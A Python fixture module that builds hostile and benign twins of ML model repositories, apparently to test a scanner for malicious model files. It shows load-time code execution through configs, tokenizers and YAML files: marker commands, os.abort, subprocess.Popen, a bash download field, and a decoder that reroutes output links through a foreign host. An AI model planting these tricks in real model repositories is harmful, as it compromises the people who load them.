"""Configurations of Hugging Face and its kin: names that a loader imports, calls, evaluates or fetches."""
import json

from .parts import FETCH, HOST, floats, safetensors

FAMILY = "repositories"
WEIGHTS = safetensors({"embed.weight": ("F32", [8, 4], floats(32))}, {"format": "pt"})
EVIL = "import os\n\nos.system('touch marker')\n\n"


def config(**more):
    base = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "intermediate_size": 128, "num_attention_heads": 4, "num_hidden_layers": 2, "vocab_size": 256, "torch_dtype": "bfloat16", "transformers_version": "4.57.0"}
    return json.dumps({**base, **more}, indent=2)


def add(out):
    def pair(name, hostile, twin, why, prove=None, file=None):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    repo = lambda text, **files: {"config.json": text, "model.safetensors": WEIGHTS, **files}  # noqa: E731
    pair("attention-kernel-repository", repo(config(_attn_implementation_internal="fast-attn-labs/flash-attn4-sm90")), repo(config(_attn_implementation_internal="flash_attention_2")), "CVE-2026-4372: transformers 4.56 to 5.2 fetches the named kernel repository and runs its code, trust_remote_code or not.")
    vision = {"model_type": "radio", "patch_size": 16, "hidden_size": 1280, "auto_map": {"AutoConfig": "vision-lab-mirror/radio-h--hf_model.RADIOConfig", "AutoModel": "vision-lab-mirror/radio-h--hf_model.RADIOModel"}}
    pair("vision-auto-map", repo(config(model_type="Llama_Nemotron_Nano_VL", vision_config=vision)), repo(config(model_type="llava", vision_config={"model_type": "clip_vision_model", "patch_size": 14, "hidden_size": 1024})), "CVE-2025-66448: vLLM resolves auto_map inside vision_config from another repository and runs it without consent.")
    modules = lambda kind: json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": kind}], indent=2)  # noqa: E731
    pool = json.dumps({"word_embedding_dimension": 64, "pooling_mode_mean_tokens": True})
    pair(
        "sentence-module", repo(config(), **{"modules.json": modules("pooling_ext.WeightedPooling"), "1_Pooling/config.json": pool, "pooling_ext.py": EVIL + "class WeightedPooling:\n    @classmethod\n    def load(cls, *args, **kwargs):\n        return cls()\n"}),
        repo(config(), **{"modules.json": modules("sentence_transformers.models.Pooling"), "1_Pooling/config.json": pool}),
        "sentence-transformers imports the class of a local folder's modules.json without asking; the file runs a command at import.", "e11-import:pooling_ext",
    )  # fmt: skip
    dense = lambda act: {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "2_Dense", "type": "sentence_transformers.models.Dense"}]), "2_Dense/config.json": json.dumps({"in_features": 64, "out_features": 32, "bias": True, "activation_function": act})}  # noqa: E731
    pair("dense-activation-call", repo(config(), **dense("os.abort")), repo(config(), **dense("torch.nn.modules.activation.Tanh")), "The Dense module imports the dotted name and calls it: os.abort kills the serving process when the model is loaded.")
    lora = lambda core: json.dumps({"peft_type": "LORA", "task_type": "CAUSAL_LM", "base_model_name_or_path": "meta-llama/Llama-3.2-1B", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj", "v_proj"], "megatron_config": {"tensor_model_parallel_size": 1}, "megatron_core": core, "inference_mode": True}, indent=2)  # noqa: E731
    pair(
        "adapter-megatron-module", {"adapter_config.json": lora("lora_parallel"), "adapter_model.safetensors": WEIGHTS, "lora_parallel.py": EVIL + "tensor_parallel = None\n"},
        {"adapter_config.json": lora("megatron.core"), "adapter_model.safetensors": WEIGHTS}, "PEFT imports the module that megatron_core names; here the adapter's own file, which runs a command.", "e11-import:lora_parallel",
    )  # fmt: skip
    index = lambda lib: json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.31.0", "unet": [lib, "UNet2DConditionModel"], "vae": ["diffusers", "AutoencoderKL"], "scheduler": ["diffusers", "DDIMScheduler"]}, indent=2)  # noqa: E731
    unet = {"unet/config.json": json.dumps({"_class_name": "UNet2DConditionModel", "sample_size": 8}), "unet/diffusion_pytorch_model.safetensors": WEIGHTS}
    pair(
        "diffusers-component-file", {"model_index.json": index("unet_fast"), "unet/unet_fast.py": EVIL + "from diffusers import UNet2DConditionModel  # noqa: E402,F401\n", **unet},
        {"model_index.json": index("diffusers"), **unet}, "A component whose library is a file of the repository: diffusers imports it to build the pipeline.", "e11-import:unet/unet_fast",
    )  # fmt: skip
    tok = lambda steps: json.dumps({"version": "1.0", "truncation": None, "padding": None, "added_tokens": [{"id": 0, "content": "<unk>", "special": True, "single_word": False, "lstrip": False, "rstrip": False, "normalized": False}], "normalizer": None, "pre_tokenizer": {"type": "Metaspace", "replacement": "\u2581", "prepend_scheme": "first", "split": False}, "post_processor": None, "decoder": {"type": "Sequential", "decoders": steps}, "model": {"type": "BPE", "unk_token": "<unk>", "vocab": {"<unk>": 0, "a": 1, "b": 2, "\u2581": 3}, "merges": []}}, indent=1)  # noqa: E731
    replace = lambda a, b: {"type": "Replace", "pattern": {"String": a}, "content": b}  # noqa: E731
    steps = [replace("\u2581", " "), {"type": "ByteFallback"}, {"type": "Fuse"}]
    pair(
        "decoder-rewrites-links", {"tokenizer.json": tok([*steps, replace("https://", f"http://{HOST}/r?to=https://")])},
        {"tokenizer.json": tok([*steps, {"type": "Strip", "content": " ", "start": 1, "stop": 0}])}, "The decoder rewrites each link of the model's output, tool calls included, to go through a foreign address.",
    )  # fmt: skip
    yolo = "# a detector\nnc: 80\nactivation: {}\nscales:\n  n: [0.33, 0.25, 1024]\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, Conv, [128, 3, 2]]\n  - [-1, 3, C2f, [128, True]]\nhead:\n  - [[0, 1, 2], 1, Detect, [nc]]\n"
    pair("yolo-activation-text", yolo.format("__import__('os').system('touch marker') or torch.nn.SiLU()"), yolo.format("torch.nn.SiLU()"), "The model reader evaluates the text of `activation` as Python (YOLOv5 and its heirs).", "e11-yolo", file="yolo-custom.yaml")
    data = "path: ../datasets/parts\ntrain: images/train\nval: images/val\nnames:\n  0: bolt\n  1: nut\ndownload: {}\n"
    pair("yolo-download-shell", data.format(f"bash -c '{FETCH}'"), data.format("https://github.com/ultralytics/assets/releases/download/v0.0.0/coco8.zip"), "A `download` that starts with bash is run in a shell when the data set is missing. The twin is a zip over https.", file="parts.yaml")
    light = "seed_everything: 7\ntrainer:\n  max_epochs: 5\n  callbacks:\n    - class_path: {}\n      init_args:\n{}model:\n  class_path: acme.models.Classifier\n  init_args:\n    hidden: 64\n"
    pair("lightning-class-path", light.format("subprocess.Popen", "        args: [touch, marker]\n"), light.format("lightning.pytorch.callbacks.EarlyStopping", "        monitor: val_loss\n        patience: 3\n"), "The Lightning command line imports class_path and calls it with init_args. Proved by doing just that.", "e11-lightning", file="config.yaml")
